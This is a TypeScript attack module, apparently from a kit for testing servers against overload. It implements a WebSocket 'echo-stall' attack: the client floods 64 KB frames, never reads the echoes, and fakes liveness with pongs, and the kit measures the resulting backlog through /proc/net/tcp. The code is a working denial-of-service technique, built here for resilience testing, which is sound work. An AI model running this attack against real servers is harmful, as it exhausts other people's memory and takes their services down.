// A client that never reads: one raw socket sends 64 KB echo frames and never reads its side, so the
// echoes back up (its receive window, then the server's socket buffers, then whatever the server keeps
// queued in memory), and sends an unsolicited pong now and then so a liveness check sees it as alive.
import { randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { connect, type Socket } from 'node:net'
import type { Attack, AttackContext } from '../kit.js'

/** MAX_PAYLOAD_BYTES's default: the largest frame the server takes */
const FRAME_PAYLOAD = 64 * 1024
/** a bound on the attack itself: past it, the growth (if any) is already plain, and the machine is shared */
const MAX_PAYLOAD_BYTES = 192 * 1024 * 1024
const PONG_EVERY_MS = 250
/** what the client lets queue in its own process before it waits for 'drain' */
const CLIENT_QUEUE = 256 * 1024

/**
 * A masked client frame with an all-zero masking key: the payload goes out as it is, so one buffer
 * serves every send (the server unmasks whatever the key; the key's randomness protects proxies, not it).
 */
function clientFrame (opcode: number, payload: Buffer): Buffer {
  const len = payload.length
  let head: Buffer
  if (len < 126) head = Buffer.from([0x80 | opcode, 0x80 | len])
  else if (len < 65536) { head = Buffer.from([0x80 | opcode, 0x80 | 126, 0, 0]); head.writeUInt16BE(len, 2) } else { head = Buffer.alloc(10); head[0] = 0x80 | opcode; head[1] = 0x80 | 127; head.writeBigUInt64BE(BigInt(len), 2) }
  return Buffer.concat([head, Buffer.alloc(4), payload])
}

/**
 * Bytes the kernel holds for one loopback connection, both ends, both directions: the send and receive
 * queues (tx_queue, rx_queue of /proc/net/tcp) of the client's socket and of the server's. Undefined
 * unless both ends are still established: a socket the server closed holds nothing of the server's.
 */
export function kernelQueued (clientPort: number, serverPort: number, table = readFileSync('/proc/net/tcp', 'utf8')): number | undefined {
  const c = clientPort.toString(16).toUpperCase().padStart(4, '0')
  const s = serverPort.toString(16).toUpperCase().padStart(4, '0')
  let sum = 0
  let ends = 0
  for (const line of table.split('\n')) {
    const f = line.trim().split(/\s+/)
    const local = f[1]?.slice(-4)
    const remote = f[2]?.slice(-4)
    if (!((local === c && remote === s) || (local === s && remote === c)) || f[3] !== '01') continue
    const [tx, rx] = (f[4] ?? '0:0').split(':')
    sum += parseInt(tx ?? '0', 16) + parseInt(rx ?? '0', 16)
    ends++
  }
  return ends === 2 ? sum : undefined
}

const DATA = clientFrame(0x2, randomBytes(FRAME_PAYLOAD))
const PONG = clientFrame(0xa, Buffer.alloc(0))

/** Upgrades a raw socket to /ws/echo; resolves with it once the 101 has arrived, else undefined. */
async function handshake (ctx: AttackContext): Promise<Socket | undefined> {
  const socket = connect(ctx.port, ctx.host)
  socket.on('error', (err: NodeJS.ErrnoException) => ctx.tally.answer(`error ${err.code ?? err.message}`))
  socket.write(`GET /ws/echo HTTP/1.1\r\nHost: ${ctx.host}:${ctx.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`)
  return await new Promise((resolve) => {
    let head = ''
    const onData = (d: Buffer) => {
      head += d.toString('latin1')
      const end = head.indexOf('\r\n\r\n')
      if (end < 0) return
      socket.off('data', onData)
      // from here on the client reads nothing: what the server echoes stays unread
      socket.pause()
      const status = /^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? '0'
      ctx.tally.answer(status)
      if (status === '101') resolve(socket)
      else { socket.destroy(); resolve(undefined) }
    }
    socket.on('data', onData)
    socket.once('close', () => resolve(undefined))
  })
}

export const echoStall: Attack = {
  name: 'echo-stall',
  unit: '64 KB frames',
  async run (ctx) {
    const socket = await handshake(ctx)
    if (socket === undefined) return
    const start = socket.bytesWritten
    let closedEarly = false
    socket.once('close', () => { closedEarly = Date.now() < ctx.until })
    const flushed = () => socket.bytesWritten - socket.writableLength - start
    const clientPort = socket.localPort ?? 0
    const pongs = setInterval(() => {
      if (!socket.destroyed) { socket.write(PONG); ctx.tally.count('pongs sent') }
    }, PONG_EVERY_MS)
    // nothing is read: every byte the kernel took is queued on its way back, in the kernel or in the server
    const sample = () => {
      const kernel = socket.destroyed ? undefined : kernelQueued(clientPort, ctx.port)
      if (kernel !== undefined) ctx.tally.backlog(flushed() - kernel)
    }
    const sampler = setInterval(sample, 200)
    try {
      let payload = 0
      while (Date.now() < ctx.until && !socket.destroyed && payload < MAX_PAYLOAD_BYTES) {
        if (socket.writableLength >= CLIENT_QUEUE) {
          await new Promise<void>((resolve) => {
            const wake = () => { clearTimeout(timer); socket.off('drain', wake); socket.off('close', wake); resolve() }
            const timer = setTimeout(wake, Math.max(1, ctx.until - Date.now()))
            socket.once('drain', wake)
            socket.once('close', wake)
          })
          continue
        }
        socket.write(DATA)
        payload += FRAME_PAYLOAD
        ctx.tally.sent++
      }
      if (payload >= MAX_PAYLOAD_BYTES) ctx.tally.count(`stopped at the ${MAX_PAYLOAD_BYTES >> 20} MB bound`)
      // hold the stalled socket to the end of the window, so the peak is read with it still open
      while (Date.now() < ctx.until && !socket.destroyed) await new Promise((resolve) => setTimeout(resolve, 50))
    } finally {
      clearInterval(pongs)
      clearInterval(sampler)
      sample()
      if (closedEarly) ctx.tally.answer('closed by the server')
      socket.destroy()
    }
  }
}
